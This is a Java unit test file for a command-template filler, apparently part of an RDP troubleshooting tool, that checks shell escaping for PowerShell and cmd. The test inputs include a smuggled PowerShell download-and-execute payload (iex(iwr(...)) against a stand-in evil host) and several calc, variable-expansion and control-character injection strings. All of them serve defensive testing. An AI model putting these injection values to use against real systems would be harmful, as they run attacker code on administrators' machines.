package io.rdpdoctor.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import io.rdpdoctor.knowledge.ShellQuoting.Shell;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Each placeholder written for the shell it lands in, or the command withheld. */
class CommandFillerTest {

    private static final String F1 = "x';iex(iwr('http://evil.example/p'));'0xC0000234";

    private static CommandFiller.Filled ps(String template, String name, String value) {
        return CommandFiller.fill(Shell.POWERSHELL, template, Map.of(name, value));
    }

    private static CommandFiller.Filled cmd(String template, String name, String value) {
        return CommandFiller.fill(Shell.CMD, template, Map.of(name, value));
    }

    @Test
    void powerShellSingleQuotesAreDoubledSoTheValueStaysOneLiteral() {
        assertThat(ps("Unlock-ADAccount -Identity '{user}'", "user", F1).command())
                .isEqualTo("Unlock-ADAccount -Identity 'x'';iex(iwr(''http://evil.example/p''));''0xC0000234'");
        assertThat(ps("Backup-GPO -Name '{gpo}' -Path C:\\b", "gpo", "Default Domain Controllers' Policy").command())
                .isEqualTo("Backup-GPO -Name 'Default Domain Controllers'' Policy' -Path C:\\b");
    }

    @Test
    void typographicSingleQuotesAreDoubledToo() {
        assertThat(ps("Get-ADUser -Identity '{user}'", "user", "a‘;calc;’b‚‛").command())
                .isEqualTo("Get-ADUser -Identity 'a‘‘;calc;’’b‚‚‛‛'");
    }

    @Test
    void insideDoubleQuotesPowerShellGetsBacktickEscapes() {
        assertThat(ps("Write-Output \"name={x}\"", "x", "$(calc)`“”").command())
                .isEqualTo("Write-Output \"name=`$(calc)```“`”\"");
    }

    @Test
    void aBarePowerShellValueIsKeptWhenPlainAndQuotedWhenNot() {
        assertThat(ps("Get-ADUser {user} -Properties x", "user", "CORP\\jdoe").command()).isEqualTo("Get-ADUser CORP\\jdoe -Properties x");
        assertThat(ps("Get-ADUser {user} -Properties x", "user", "John Smith; calc").command())
                .isEqualTo("Get-ADUser 'John Smith; calc' -Properties x");
        assertThat(ps("Resolve-DnsName {name}; calc", "name", "a b").command()).isEqualTo("Resolve-DnsName 'a b'; calc");
    }

    @Test
    void aValueInsideALongerBareWordIsWithheldUnlessPlain() {
        CommandFiller.Filled f = ps("Export-Clixml C:\\b\\user-{user}.xml; Get-ADUser {user}", "user", "a b");
        assertThat(f.isWithheld()).isTrue();
        assertThat(f.command()).isNull();
        assertThat(f.template()).isEqualTo("Export-Clixml C:\\b\\user-<user>.xml; Get-ADUser <user>");
        assertThat(f.withheld()).singleElement().satisfies(r -> {
            assertThat(r.name()).isEqualTo("user");
            assertThat(r.value()).isEqualTo("a b");
            assertThat(r.problem()).contains("longer word");
        });
        assertThat(ps("Resolve-DnsName _ldap._tcp.{domain}", "domain", "corp.example.com").command())
                .isEqualTo("Resolve-DnsName _ldap._tcp.corp.example.com");
    }

    @Test
    void aWholeBareArgumentThatLooksLikeAnOptionIsWithheld() {
        assertThat(ps("Get-ADUser {user}", "user", "-Filter").isWithheld()).isTrue();
        assertThat(cmd("net user {user} /active:yes", "user", "/delete").isWithheld()).isTrue();
        assertThat(ps("Get-ADUser '{user}'", "user", "-Filter").command()).isEqualTo("Get-ADUser '-Filter'");
    }

    @Test
    void cmdQuotedValuesMayNotHoldWhatCmdCannotQuote() {
        assertThat(cmd("net user \"{user}\" /active:yes", "user", "x';iex(1)").command()).isEqualTo("net user \"x';iex(1)\" /active:yes");
        for (String bad : new String[] {"a\"b", "%COMSPEC%", "a^b", "a&calc", "a|b", "a<b", "a>b", "!x!"}) {
            CommandFiller.Filled f = cmd("net user \"{user}\" /active:yes", "user", bad);
            assertThat(f.isWithheld()).as(bad).isTrue();
            assertThat(f.withheld().get(0).problem()).as(bad).contains("cmd cannot quote");
        }
        assertThat(cmd("reg query \"HKLM\\{key}\" /v x", "key", "a\\").isWithheld()).as("a backslash before the closing quote").isTrue();
    }

    @Test
    void cmdBareValuesArePlainOrQuotedAsAWholeArgument() {
        assertThat(cmd("sc config {svc} start= auto", "svc", "Svc_1").command()).isEqualTo("sc config Svc_1 start= auto");
        assertThat(cmd("sc config {svc} start= auto", "svc", "my svc").command()).isEqualTo("sc config \"my svc\" start= auto");
        assertThat(cmd("sc config {svc} start= auto", "svc", "a&calc").isWithheld()).isTrue();
        assertThat(cmd("nltest /sc_reset:{domain}", "domain", "a b").isWithheld()).isTrue();
        assertThat(cmd("netsh x remoteip={a},{b}", "a", "10.0.0.0/24,LocalSubnet").command()).isEqualTo("netsh x remoteip=10.0.0.0/24,LocalSubnet,<b>");
    }

    @Test
    void controlCharactersLengthAndTypesAreRefusedInEveryShell() {
        for (Shell shell : Shell.values()) {
            assertThat(CommandFiller.fill(shell, "x '{v}' \"{v}\" {v}", Map.of("v", "a\nb")).withheld().get(0).problem())
                    .isEqualTo("contains a control character (U+000A)");
            assertThat(CommandFiller.fill(shell, "x '{v}'", Map.of("v", "a\u001b]52;c;x\u0007")).isWithheld()).isTrue();
            assertThat(CommandFiller.fill(shell, "x '{v}'", Map.of("v", "a\u202eb")).isWithheld()).isTrue();
            assertThat(CommandFiller.fill(shell, "x '{v}'", Map.of("v", "a\tb")).isWithheld()).isTrue();
            assertThat(CommandFiller.fill(shell, "x '{v}'", Map.of("v", "a".repeat(ShellQuoting.MAX_LENGTH + 1))).isWithheld()).isTrue();
            assertThat(CommandFiller.fill(shell, "x '{v}'", Map.of("v", "a".repeat(ShellQuoting.MAX_LENGTH))).isWithheld()).isFalse();
        }
    }

    @Test
    void typedValuesAreCheckedWhenTheCommandIsFilled() {
        assertThat(ps("Test-NetConnection -Port {port}", "port", "3390").command()).isEqualTo("Test-NetConnection -Port 3390");
        for (String bad : new String[] {"70000", "0", "-3389", "3389.7", "3389;calc", " 3389"}) {
            CommandFiller.Filled f = ps("Test-NetConnection -Port {port}", "port", bad);
            assertThat(f.isWithheld()).as(bad).isTrue();
        }
        assertThat(ps("Test-NetConnection -Port {port}", "port", "70000").withheld().get(0).problem()).isEqualTo("is not a port number (1-65535)");
        assertThat(ps("Get-Item Cert:\\LocalMachine\\My\\{thumbprint}", "thumbprint", "0123456789abcdef0123456789ABCDEF01234567").isWithheld()).isFalse();
        assertThat(ps("Get-Item Cert:\\LocalMachine\\My\\{thumbprint}", "thumbprint", "0123456789abcdef0123456789ABCDEF0123456Z").isWithheld()).isTrue();
        assertThat(ps("Stop-Process -Id {pid}", "pid", "4242").isWithheld()).isFalse();
        assertThat(ps("x {sid}", "sid", "S-1-5-32-555").isWithheld()).isFalse();
        assertThat(ps("x {sid}", "sid", "S-1-5-32-555'").isWithheld()).isTrue();
        assertThat(cmd("netsh advfirewall set {profile}profile state on", "profile", "Domain,Private").isWithheld()).isFalse();
        assertThat(cmd("netsh advfirewall set {profile}profile state on", "profile", "Domainx").isWithheld()).isTrue();
    }

    @Test
    void aTemplateForBothShellsTakesOnlyWhatBothReadTheSameWay() {
        String t = "reg export \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\{dependency}\" C:\\b\\{dependency}.reg /y";
        assertThat(CommandFiller.fill(Shell.BOTH, t, Map.of("dependency", "RpcSs")).command())
                .isEqualTo("reg export \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\RpcSs\" C:\\b\\RpcSs.reg /y");
        assertThat(CommandFiller.fill(Shell.BOTH, "reg export \"HKLM\\{k}\" x", Map.of("k", "a$b")).isWithheld()).isTrue();
        assertThat(CommandFiller.fill(Shell.BOTH, "reg export \"HKLM\\{k}\" x", Map.of("k", "a&b")).isWithheld()).isTrue();
        assertThat(CommandFiller.fill(Shell.BOTH, "net user {u} /times:all", Map.of("u", "John Smith")).command())
                .isEqualTo("net user \"John Smith\" /times:all");
        assertThat(CommandFiller.fill(Shell.BOTH, "net user {u} /times:all", Map.of("u", "O'Brien")).isWithheld()).isFalse();
        assertThat(CommandFiller.fill(Shell.BOTH, "net user {u} /times:all", Map.of("u", "a`b c")).isWithheld()).isTrue();
    }

    @Test
    void anotherToolsCommandTakesOnlyPlainWords() {
        assertThat(CommandFiller.fill(Shell.ANY, "mstsc /v:{host}", Map.of("host", "srv01.corp.example")).command()).isEqualTo("mstsc /v:srv01.corp.example");
        assertThat(CommandFiller.fill(Shell.ANY, "mstsc /v:{host}", Map.of("host", "a;b")).isWithheld()).isTrue();
        assertThat(CommandFiller.fill(Shell.ANY, "mstsc /v:{host}", Map.of("host", "a\\b")).isWithheld()).isTrue();
    }

    @Test
    void theShellComesFromTheFieldAndForBackupAndUndoFromTheText() {
        assertThat(Shell.of("powershell", "net user x")).isEqualTo(Shell.POWERSHELL);
        assertThat(Shell.of("cmd", "Get-Service x")).isEqualTo(Shell.CMD);
        assertThat(Shell.of("backup", "Backup-GPO -Name '{gpo}' -Path C:\\b")).isEqualTo(Shell.POWERSHELL);
        assertThat(Shell.of("undo", "$u = Import-Clixml C:\\x.xml")).isEqualTo(Shell.POWERSHELL);
        assertThat(Shell.of("undo", "netsh advfirewall import C:\\x.wfw & netsh x")).isEqualTo(Shell.CMD);
        assertThat(Shell.of("backup", "reg export \"HKLM\\x\" C:\\x.reg /y")).isEqualTo(Shell.BOTH);
        assertThat(Shell.of("command", "domain account - Clear-ADAccountExpiration -Identity '{user}'")).isEqualTo(Shell.POWERSHELL);
        assertThat(Shell.of("command", "gcloud compute connect-to-serial-port {gceInstance}")).isEqualTo(Shell.ANY);
    }

    @Test
    void aMissingValueShowsItsNameAndOtherValuesAreStillFilled() {
        CommandFiller.Filled f = CommandFiller.fill(Shell.POWERSHELL, "Set-NetFirewallRule -Name '{rule}' -RemoteAddress '{a}' -Port {port}",
                Map.of("rule", "RDP'x", "port", "70000"));
        assertThat(f.template()).isEqualTo("Set-NetFirewallRule -Name 'RDP''x' -RemoteAddress '<a>' -Port <port>");
        assertThat(f.withheld()).extracting(CommandFiller.Rejected::name).containsExactly("port");
        assertThat(CommandFiller.fill(Shell.POWERSHELL, "Stop-Process -Id {pid}", Map.of()).command()).isEqualTo("Stop-Process -Id <pid>");
        assertThat(CommandFiller.fill(Shell.POWERSHELL, (String) null, Map.of())).isNull();
    }

    @Test
    void placeholdersInCommentsAndScriptBlocksKeepTheirContext() {
        assertThat(ps("Invoke-Command -ComputerName {host} -ScriptBlock { Get-Service '{host}' }", "host", "a b").command())
                .isEqualTo("Invoke-Command -ComputerName 'a b' -ScriptBlock { Get-Service 'a b' }");
        assertThat(ps("Get-Item 'it''s {x}' # {x}", "x", "a'b").command()).isEqualTo("Get-Item 'it''s a''b' # a'b");
    }
}
